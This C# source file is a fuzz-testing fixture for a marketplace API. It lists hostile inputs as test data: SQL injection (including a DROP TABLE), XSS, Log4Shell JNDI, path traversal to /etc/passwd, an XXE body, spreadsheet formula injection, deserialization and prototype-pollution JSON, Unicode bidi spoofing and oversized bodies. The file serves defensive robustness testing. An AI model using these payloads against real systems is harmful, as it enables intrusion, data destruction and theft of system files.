using System.Text;
using System.Text.Json;

namespace Marketplace.Reliability.Tests.Fuzz;

/// <summary>Hostile values: strings (injection, bidi, control, huge), JSON values of every wrong type, and raw bodies that are not JSON at all.</summary>
public static class Hostile
{
    public static readonly string[] Strings =
    [
        "' OR '1'='1", "'; DROP TABLE orders.mt_events; --", "1); select pg_sleep(10); --", "\" OR \"\"=\"", "admin'--",
        "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "javascript:alert(1)", "\"><svg/onload=alert(1)>",
        "{{7*7}}", "${jndi:ldap://evil/x}", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "%00", "\u0000", "\u0007\u0008\u001b[31m",
        "\u202Eevil.exe\u202Cgpj.", "\u2066\u2067\u2068\u2069\u200F\u200E", "\uFEFF", "\uFFFF\uFFFE", "𓀀𝕳😀👨‍👩‍👧", "ﷺ ﷽", "تعاونية\u0640\u064B\u0650",
        "", " ", "\t\r\n", "null", "true", "NaN", "Infinity", "-0", "1e309", "99999999999999999999999999999999", "0x7fffffff",
        "%s%n%x%d", "\\", "\\u0000", "$where", "{\"$gt\":\"\"}", "=cmd|' /C calc'!A0", "+1 (555) 0100 ext. 1;--",
        new string('A', 5_000), new string('ض', 3_000), string.Concat(Enumerable.Repeat("\u202E", 500)), "a@b", "@", "x@x.x\u0000@evil",
    ];

    /// <summary>JSON values (raw text) of every type and size: what a field should never hold.</summary>
    public static readonly string[] JsonValues = Strings.Select(s => JsonSerializer.Serialize(s)).Concat(
    [
        "1e400", "-1e400", "1.00000000000000000000000000001", "123456789012345678901234567890", "-1", "0", "2147483648", "-2147483649",
        "79228162514264337593543950336", "0.001", "-0.0", "9.999", "true", "false", "null", "{}", "[]", "[null]", "[1,2,3]", "\"\"",
        "{\"$type\":\"System.IO.FileInfo, System.IO.FileSystem\",\"fileName\":\"/etc/passwd\"}", "{\"__proto__\":{\"admin\":true}}",
        "{\"amount\":\"12,5\",\"currency\":\"MAD\"}", "{\"amount\":1e30,\"currency\":\"MAD\"}", "{\"amount\":-100,\"currency\":\"MAD\"}",
        "{\"amount\":0.001,\"currency\":\"XXX\"}", "{\"fr\":null}", "{\"xx\":\"<b>x</b>\"}", "\"\\ud800\"", "\"\\udfff\\ud800\"",
        "[" + string.Join(",", Enumerable.Repeat("\"x\"", 5_000)) + "]",
        new string('[', 200) + new string(']', 200), Nest(70), Nest(1_000),
    ]).ToArray();

    /// <summary>Whole bodies that are not what any route accepts (bytes: invalid UTF-8 included).</summary>
    public static readonly byte[][] RawBodies =
    [
        [], "null"u8.ToArray(), "{"u8.ToArray(), "{\"a\":"u8.ToArray(), "[]"u8.ToArray(), "\"just a string\""u8.ToArray(), "42"u8.ToArray(),
        [0xFF, 0xFE, 0xFD], [(byte)'{', (byte)'"', (byte)'e', (byte)'"', (byte)':', (byte)'"', 0xC3, 0x28, 0xA0, 0xA1, (byte)'"', (byte)'}'],
        [0xEF, 0xBB, 0xBF, (byte)'{', (byte)'}'], [0x00, 0x00, 0x00, 0x7B], Encoding.Unicode.GetBytes("{\"email\":\"x@y.ma\"}"),
        "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"u8.ToArray(),
        "email=a%40b.ma&password=x"u8.ToArray(), "{\"a\":1,\"a\":2,\"a\":{\"a\":[]}}"u8.ToArray(),
        Encoding.UTF8.GetBytes(new string('[', 100_000)), Encoding.UTF8.GetBytes(Nest(5_000)),
        Encoding.UTF8.GetBytes("{" + string.Join(",", Enumerable.Range(0, 10_000).Select(i => $"\"k{i}\":{i}")) + "}"),
        Encoding.UTF8.GetBytes("{\"x\":\"" + new string('x', 300 * 1024) + "\"}"), // over the 256 KB limit of JSON bodies
        Encoding.UTF8.GetBytes("{\"n\":" + new string('9', 100_000) + "}"),
    ];

    public static readonly string[] ContentTypes =
    [
        "application/json", "application/json; charset=utf-8", "application/json; charset=utf-16", "text/plain", "text/html",
        "application/x-www-form-urlencoded", "multipart/form-data; boundary=xyz", "application/xml", "application/json; charset=\"><script>",
        "image/png", "*/*", "application/merge-patch+json", "application/problem+json",
    ];

    public static readonly string[] QueryNames =
        ["page", "pageSize", "status", "q", "category", "cooperativeId", "label", "province", "minPrice", "maxPrice", "sort", "lang", "from", "to", "periodEnd", "x"];

    public static readonly string[] NumbersAsText = ["-1", "0", "101", "100000000000", "1e10", "NaN", "-0", "0x10", "1.5", "", "9223372036854775808"];

    private static string Nest(int depth) => string.Concat(Enumerable.Repeat("{\"a\":", depth)) + "1" + new string('}', depth);
}
